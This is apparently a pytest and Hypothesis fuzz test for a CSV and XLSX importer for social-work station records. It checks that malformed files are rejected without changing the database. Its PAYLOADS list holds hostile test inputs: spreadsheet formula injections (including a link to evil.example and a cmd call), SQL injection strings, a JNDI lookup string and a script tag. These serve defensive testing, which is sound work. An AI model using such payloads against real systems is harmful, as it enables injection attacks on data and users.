"""Fuzzing the importer: malformed CSV and XLSX files (mutations of valid ones) never raise anything but
ImportProblems, and a refused file leaves the database exactly as it was (row counts and a content checksum).

Prints and records: "fuzz: N files tried, N rejected, 0 left a trace" (test-artifacts/reliability.txt).
"""
from __future__ import annotations

import hashlib
import io
import time
from datetime import datetime
from pathlib import Path

import duckdb
import openpyxl
import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from indicators.records import importer

from indicators.records import store as records
from indicators.records.importer import ImportProblems, apply, check

ROOT = Path(__file__).resolve().parent.parent
ARTIFACT = ROOT / "test-artifacts" / "reliability.txt"

BASE_DB = {
    "stations": "station_id,name,name_en,district,street,population,profile\n"
                "S01,东岗街道社工站,Donggang,城关区,东岗街道,12000,mixed\nS02,西湖街道社工站,Xihu,七里河区,西湖街道,8000,mixed\n",
    "needs": "need_id,station_id,category,title,source,raised_on,urgency,households_affected,status,resolved_on\n"
             "N1,S01,elderly_care,助餐,survey,2024-01-05,5,8,resolved,2024-02-01\n"
             "N2,S02,health,慢病,visit,2024-02-05,3,4,open,\n",
    "residents": "resident_id,station_id,age_band,priority_group\nP1,S01,60-79,elderly_alone\nP2,S02,80+,none\n",
    "activities": "activity_id,station_id,held_on,kind,title,need_id,photos,media_items,headcount,cost,staff_hours\n"
                  "A1,S01,2024-03-01,case,探访,N1,1,0,1,100,2\nA2,S02,2024-03-02,group,小组,,5,1,12,800,8\n",
}

# Valid files (new keys) that the mutations start from: header + rows of text cells.
VALID: dict[str, tuple[list[str], list[list[str]]]] = {
    "stations": (["station_id", "name", "district", "population"],
                 [["S10", "新站", "城关区", "5000"], ["S11", "南站", "安宁区", "7000"]]),
    "needs": (["需求编号", "站点编号", "需求类别", "需求名称", "需求来源", "提出日期", "紧急程度", "涉及户数", "处理状态", "解决日期"],
              [["N10", "S01", "health", "高血压随访", "调查", "2024/4/1", "4", "6", "已解决", "2024年5月1日"],
               ["N11", "S02", "housing_repair", "楼道照明", "council", "2024-04-02", "2", "30", "open", ""]]),
    "activities": (["activity_id", "station_id", "held_on", "kind", "title", "need_id", "photos", "headcount", "cost"],
                   [["A10", "S01", "2024-04-03", "个案", "入户", "N1", "2", "1", "50.5"],
                    ["A11", "S02", "2024-04-04", "community", "游园会", "", "30", "200", "4000"]]),
    "attendance": (["activity_id", "resident_id"], [["A1", "P2"], ["A2", "P1"], ["A2", "P3x"]]),
    "feedback": (["feedback_id", "station_id", "resident_id", "given_on", "channel", "activity_id", "rating", "need_met",
                  "comment"],
                 [["F10", "S01", "P1", "2024-04-05", "热线", "A1", "5", "是", "很好"],
                  ["F11", "S02", "", "2024-04-06", "survey", "", "2", "", ""]]),
    "expenditures": (["expense_id", "station_id", "spent_on", "category", "amount", "need_id"],
                     [["E10", "S01", "2024-04-07", "适老化改造", "12000", "N1"], ["E11", "S02", "2024-04-08", "admin", "300.25", ""]]),
}
VALID["attendance"][1][2] = ["A2", "P2"]   # keep every valid row referencing existing records

WEIRD = ["", " ", "abc", "3.5", "-1", "0", "1e400", "9" * 40, "NaN", "inf", "-inf", "2024-02-30", "2024-13-01",
         "0x10", "１２", "TRUE", "1,2,3", '"', '""', "\\", "N1", "S99", "A99", "P99", "resolved", "已解决", "是",
         "2100-01-01", "1899-12-31", "99999999999", "-99999999999", "1_000", "²", "٣", "\u202e", "\ufeff", "\x00",
         "\x1b[31m", "\r", "\n", "\t", "x" * 11_000]
PAYLOADS = ['=HYPERLINK("http://evil.example","click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3", "=1+1",
            "'; DROP TABLE stations; --", "Robert'); DROP TABLE students;--", "' OR '1'='1", '"; DELETE FROM needs; --',
            "\t=cmd", "\r=cmd", "${jndi:ldap://x}", "<script>alert(1)</script>"]

COUNTS = {"tried": 0, "rejected": 0, "accepted": 0, "trace": 0, "csv": 0, "xlsx": 0, "seconds": 0.0}


def state(con) -> dict[str, tuple[int, str]]:
    cur = con.cursor()
    out = {}
    for t in (*records.TABLES, "meta"):
        rows = cur.execute(f'SELECT * FROM "{t}" ORDER BY ALL').fetchall()
        out[t] = (len(rows), hashlib.sha256(repr(rows).encode()).hexdigest())
    return out


@pytest.fixture(scope="module")
def con():
    c = duckdb.connect()
    records.create_schema(c)
    for table in ("stations", "residents", "needs", "activities"):
        report = importer.import_file(c, table, BASE_DB[table].encode(), f"{table}.csv")
        assert report.ok, report.errors
    yield c
    c.close()


def attempt(con, table: str, data: bytes, name: str) -> None:
    """One file: must end in a plan or ImportProblems; a refused file leaves no trace; an accepted one adds exactly
    what it says."""
    t0 = time.perf_counter()
    before = state(con)
    COUNTS["tried"] += 1
    try:
        plan = check(con, table, data, name)
    except ImportProblems:
        plan = None
    if plan is not None and plan.ok:
        report = apply(con, plan)
        after = state(con)
        grown = sum(after[t][0] - before[t][0] for t in records.TABLES)
        assert grown == report.inserted
        COUNTS["accepted"] += 1
    else:
        if plan is not None:
            assert plan.problems and all(p.file == name for p in plan.problems)
            assert all(p.row is None or p.row >= 1 for p in plan.problems)
            with pytest.raises(ImportProblems):
                apply(con, plan)
        COUNTS["rejected"] += 1
        if state(con) != before:
            COUNTS["trace"] += 1
            raise AssertionError(f"a refused file changed the database: {name}")
    COUNTS["seconds"] += time.perf_counter() - t0


# ---------------------------------------------------------------- mutations of the cell grid

cell_value = st.one_of(st.sampled_from(WEIRD), st.sampled_from(PAYLOADS), st.text(max_size=12))


@st.composite
def mutated_grid(draw):
    table = draw(st.sampled_from(sorted(VALID)))
    header, rows = VALID[table]
    header = list(header)
    rows = [list(r) for r in rows]
    for _ in range(draw(st.integers(1, 3))):
        kind = draw(st.sampled_from(["cell", "cell", "payload", "drop_col", "rename", "dup_row", "cut_row",
                                     "extra_cell", "swap_headers", "no_rows", "blank_header", "many_rows"]))
        ncol = len(header)
        if kind == "cell" and rows and ncol:
            r, c = draw(st.integers(0, len(rows) - 1)), draw(st.integers(0, ncol - 1))
            if c < len(rows[r]):
                rows[r][c] = draw(cell_value)
        elif kind == "payload" and rows and ncol:
            r, c = draw(st.integers(0, len(rows) - 1)), draw(st.integers(0, ncol - 1))
            if c < len(rows[r]):
                rows[r][c] = draw(st.sampled_from(PAYLOADS))
        elif kind == "drop_col" and ncol > 1:
            c = draw(st.integers(0, ncol - 1))
            header.pop(c)
            for r in rows:
                if c < len(r):
                    r.pop(c)
        elif kind == "rename" and ncol:
            header[draw(st.integers(0, ncol - 1))] = draw(st.one_of(st.text(max_size=10), st.sampled_from(PAYLOADS)))
        elif kind == "dup_row" and rows:
            rows.append(list(rows[draw(st.integers(0, len(rows) - 1))]))
        elif kind == "cut_row" and rows:
            r = draw(st.integers(0, len(rows) - 1))
            rows[r] = rows[r][: draw(st.integers(0, max(len(rows[r]) - 1, 0)))]
        elif kind == "extra_cell" and rows:
            rows[draw(st.integers(0, len(rows) - 1))].append(draw(cell_value))
        elif kind == "swap_headers" and ncol > 1:
            i, j = draw(st.integers(0, ncol - 1)), draw(st.integers(0, ncol - 1))
            header[i], header[j] = header[j], header[i]
        elif kind == "no_rows":
            rows = []
        elif kind == "blank_header" and ncol:
            header[draw(st.integers(0, ncol - 1))] = ""
        elif kind == "many_rows" and rows:
            rows = rows + [list(rows[0]) for _ in range(draw(st.integers(1, 30)))]
    return table, header, rows


def _csv_bytes(header, rows, encoding: str) -> bytes:
    import csv
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow(header)
    w.writerows(rows)
    text = buf.getvalue()
    if encoding == "utf-8-sig":
        return b"\xef\xbb\xbf" + text.encode("utf-8", "surrogatepass")
    if encoding in ("gbk", "shift_jis", "cp1252", "utf-16-le", "utf-16"):
        return text.encode(encoding, errors="replace")
    return text.encode("utf-8", "surrogatepass")


@st.composite
def byte_damage(draw, data: bytes) -> bytes:
    """Damage at positions drawn independently of the length (an XLSX's length varies with the clock: its
    timestamps are compressed too), so that Hypothesis replays the same draws."""
    kind = draw(st.sampled_from(["none", "none", "truncate", "flip", "insert", "random", "nul"]))
    n = max(len(data), 1)
    where = st.integers(0, 2 ** 24)
    if kind == "truncate":
        return data[: draw(where) % n]
    if kind == "flip":
        b = bytearray(data)
        for _ in range(draw(st.integers(1, 8))):
            i, v = draw(where) % n, draw(st.integers(0, 255))
            if b:
                b[i] = v
        return bytes(b)
    if kind == "insert":
        i = draw(where) % (len(data) + 1)
        return data[:i] + draw(st.binary(min_size=1, max_size=40)) + data[i:]
    if kind == "random":
        return draw(st.binary(max_size=400))
    if kind == "nul":
        i = draw(where) % n
        return data[:i] + b"\x00" + data[i:]
    return data


FUZZ = settings(max_examples=800, deadline=None, database=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.filter_too_much])


@FUZZ
@given(grid=mutated_grid(), encoding=st.sampled_from(["utf-8", "utf-8-sig", "gbk", "utf-16", "utf-16-le", "cp1252",
                                                      "shift_jis"]), data=st.data())
def test_fuzz_csv(con, grid, encoding, data):
    table, header, rows = grid
    raw = _csv_bytes(header, rows, encoding)
    raw = data.draw(byte_damage(raw))
    COUNTS["csv"] += 1
    attempt(con, table, raw, f"{table}.csv")


def _typed(value: str, draw):
    """A text cell as Excel may hold it: number, date, bool, or text."""
    kind = draw(st.sampled_from(["text", "text", "number", "date", "bool", "none", "float"]))
    if kind == "number":
        return draw(st.one_of(st.integers(-10**20, 10**20), st.sampled_from([0, 1, 5, 6, -1, 2**31, 2**63])))
    if kind == "float":
        return draw(st.floats(allow_nan=True, allow_infinity=True))
    if kind == "date":
        return draw(st.datetimes(min_value=datetime(1800, 1, 1), max_value=datetime(2300, 1, 1)))
    if kind == "bool":
        return draw(st.booleans())
    if kind == "none":
        return None
    return value


@settings(FUZZ, max_examples=300)
@given(grid=mutated_grid(), data=st.data())
def test_fuzz_xlsx(con, grid, data):
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
    table, header, rows = grid
    wb = openpyxl.Workbook()
    ws = wb.active
    for r, row in enumerate([header, *rows], start=1):
        for c, value in enumerate(row, start=1):
            if r > 1 and data.draw(st.integers(0, 4)) == 0:
                value = _typed(value, data.draw)
            if isinstance(value, str):
                value = ILLEGAL_CHARACTERS_RE.sub("", value)
            cell = ws.cell(row=r, column=c)
            try:
                cell.value = value
            except (ValueError, TypeError):
                cell.value = None
            if isinstance(value, str) and value.startswith("=") and data.draw(st.booleans()):
                cell.data_type = "s"   # text that looks like a formula, or (if left) a formula never computed
    if data.draw(st.booleans()):
        wb.create_sheet("second").append(["x"])
    buf = io.BytesIO()
    try:
        wb.save(buf)
        saved = True
    except (ValueError, TypeError, OverflowError):
        saved = False
    assume(saved)   # openpyxl itself could not write this grid (e.g. a float it cannot serialise); not a file to test
    raw = data.draw(byte_damage(buf.getvalue()))
    COUNTS["xlsx"] += 1
    attempt(con, table, raw, f"{table}.xlsx")


def test_zz_fuzz_figures(capsys):
    """Runs after the two fuzz tests of this module: prints and records the figures."""
    if COUNTS["csv"] == 0 or COUNTS["xlsx"] == 0:
        pytest.skip("the fuzz tests did not run in this session")
    line = (f"fuzz: {COUNTS['tried']} files tried ({COUNTS['csv']} CSV, {COUNTS['xlsx']} XLSX), "
            f"{COUNTS['rejected']} rejected, {COUNTS['accepted']} accepted, {COUNTS['trace']} left a trace; "
            f"{COUNTS['seconds']:.1f} s in the importer")
    ARTIFACT.parent.mkdir(exist_ok=True)
    kept = [x for x in (ARTIFACT.read_text(encoding="utf-8").splitlines() if ARTIFACT.exists() else [])
            if not x.startswith("fuzz:")]
    ARTIFACT.write_text("\n".join([*kept, line]) + "\n", encoding="utf-8")
    with capsys.disabled():
        print("\n" + line)
    assert COUNTS["tried"] >= 1000 and COUNTS["trace"] == 0
